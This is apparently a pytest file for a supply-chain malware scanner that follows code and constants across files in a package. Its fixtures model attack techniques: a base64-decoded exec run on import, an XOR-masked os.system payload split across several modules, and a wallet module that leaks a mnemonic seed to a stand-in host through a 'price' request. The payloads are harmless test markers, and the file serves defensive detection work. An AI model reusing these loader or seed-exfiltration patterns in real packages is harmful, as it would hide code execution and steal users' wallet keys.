"""Constants that travel between files of one package."""

import pytest

from pratique.analysis.facts import Capability, Flow, Taint
from pratique.analysis.languages import python
from pratique.analysis.linking import link
from pratique.core.tree import File, Tree
from tests.analysis.inspecting import npm
from tests.analysis.rules.test_environment_keyed_payload import LOADER, names


def test_names_kept_in_another_file_are_followed() -> None:
    done = npm({"index.js": LOADER, "test/data.js": names()})
    assert "environment-keyed-payload" in {finding.rule for finding in done.inspection.findings}


def test_facts_that_depend_on_neighbours_are_not_remembered_by_digest() -> None:
    done = npm({"index.js": LOADER, "test/data.js": names()})
    flows = [flow for _, facts in done.fresh for flow in facts.flows]
    assert not any(Taint.KEY_FROM_ENVIRONMENT in flow.taints for flow in flows)
    assert all(isinstance(flow, Flow) for flow in flows)


def test_without_the_other_file_the_computed_calls_are_still_seen() -> None:
    done = npm({"index.js": LOADER})
    assert f"{Capability.CODE.value} (import)" in done.inspection.capabilities


RUNS = "import base64\nfrom {}\nexec(base64.b64decode({}))"
BLOB = "'aW1wb3J0IG9zCm9zLnN5c3RlbSgnbWFya2VyIG9mIHRoZSB0ZXN0JykK'"


@pytest.mark.parametrize(
    ("asks", "name", "keeps"),
    [
        (".constants import string", "string", "sample/constants.py"),
        (".constants import string as s", "s", "sample/constants.py"),
        (".constants import *", "string", "sample/constants.py"),
        (". import constants", "constants.string", "sample/constants.py"),
        ("sample.constants import string", "string", "sample/constants.py"),
        ("constants import string", "string", "sample/constants.py"),
        (".deep.constants import string", "string", "sample/deep/constants.py"),
    ],
)
def test_python_that_another_file_holds_is_read(asks: str, name: str, keeps: str) -> None:
    assert runs({"sample/__init__.py": RUNS.format(asks, name), keeps: f"string = {BLOB}\n"})


@pytest.mark.parametrize(
    "keeps",
    ["string = open('x').read()", f"string = {BLOB}\nstring = input()", "def string(): pass", "string = ("],
)
def test_what_is_no_constant_of_the_other_file_is_not_known(keeps: str) -> None:
    loader = RUNS.format(".constants import string", "string")
    assert not runs({"sample/__init__.py": loader, "sample/constants.py": keeps})


def runs(sources: dict[str, str]) -> bool:
    """Whether the code that the texts of the other file decode to is seen to run when the package is loaded."""
    tree = Tree(tuple(File(path, text.encode()) for path, text in sources.items()))
    facts = {path: python.extract(text.encode()) for path, text in sources.items()}
    found = link(tree, facts)["sample/__init__.py"]
    return any(use.argument == "marker of the test" and use.at_load for use in found.uses)


MASKED = [byte ^ 90 for byte in b"import os\nos.system('marker of the test')\n" * 3]


def read_together(
    run: str,
    code: str = "from .tables import ROWS\nfrom .poly import value\nfrom .core import run\nrun(value(ROWS))\n",
) -> list[str]:
    files = {
        "sample/__init__.py": code,
        "sample/tables.py": f"ROWS = {MASKED}\n",
        "sample/poly.py": "def value(rows, k=90):\n    return ''.join(map(chr, (x ^ k for x in rows)))\n",
        "sample/core.py": run,
    }
    tree = Tree(tuple(File(path, text.encode()) for path, text in files.items()))
    facts = {path: python.extract(text.encode()) for path, text in files.items()}
    found = link(tree, facts)["sample/__init__.py"]
    return [use.api for use in found.uses if use.depth]


WALLET = (
    "import hashlib\n{}\n\n\ndef seed(mnemonic):\n    return hashlib.pbkdf2_hmac('sha512', mnemonic, b'mnemonic', 2048)\n\n\n"
    "def worth(mnemonic):\n    return {}\n"
)
PRICE = "import requests\n\n\ndef price(currency, ref=''):\n    return requests.get('https://far.invalid/p', params={'c': currency, 'r': ref})\n"


def keys_sent(asked: str, gives: str, price: str = PRICE) -> list[str | None]:
    files = {
        "sample/__init__.py": "",
        "sample/wallet.py": WALLET.format(asked, gives),
        "sample/prices.py": price,
    }
    tree = Tree(tuple(File(path, text.encode()) for path, text in files.items()))
    facts = {path: python.extract(text.encode()) for path, text in files.items()}
    found = link(tree, facts)["sample/wallet.py"]
    return [flow.target for flow in found.flows if Taint.SECRETS in flow.taints]


@pytest.mark.parametrize(
    "gives",
    ["price('EUR', mnemonic)", "price('EUR', ref=mnemonic[::-1])", "price('EUR', ref=str(mnemonic))"],
)
def test_a_key_that_a_function_of_another_file_sends_is_followed(gives: str) -> None:
    assert ["https://far.invalid/p"] == keys_sent("from .prices import price", gives)


@pytest.mark.parametrize(
    ("asked", "gives"),
    [
        ("from . import prices", "prices.price('EUR', mnemonic)"),
        ("from . import prices as p", "p.price('EUR', ref=mnemonic)"),
        ("from sample import prices", "prices.price('EUR', mnemonic)"),
    ],
)
def test_a_function_of_a_module_is_one_of_the_file(asked: str, gives: str) -> None:
    assert ["https://far.invalid/p"] == keys_sent(asked, gives)


@pytest.mark.parametrize("gives", ["price('EUR')", "price('EUR', ref=seed(mnemonic).hex()[:8])"])
def test_what_is_made_of_a_key_is_none(gives: str) -> None:
    assert [] == keys_sent("from .prices import price", gives)


def test_a_function_that_sends_nothing_is_not_read_again() -> None:
    assert [] == keys_sent(
        "from .prices import price", "price('EUR', mnemonic)", "def price(currency, ref=''): pass\n"
    )


def test_a_table_a_decoder_and_what_runs_it_are_read_together() -> None:
    assert ["os.system"] == read_together("def run(text):\n    exec(text)\n")


def test_files_that_run_nothing_unknown_stay_apart() -> None:
    assert [] == read_together("def run(text):\n    print(text)\n")


def test_what_nobody_hands_on_stays_apart() -> None:
    assert [] == read_together("def run(text):\n    exec(text)\n", "from .core import run\n")
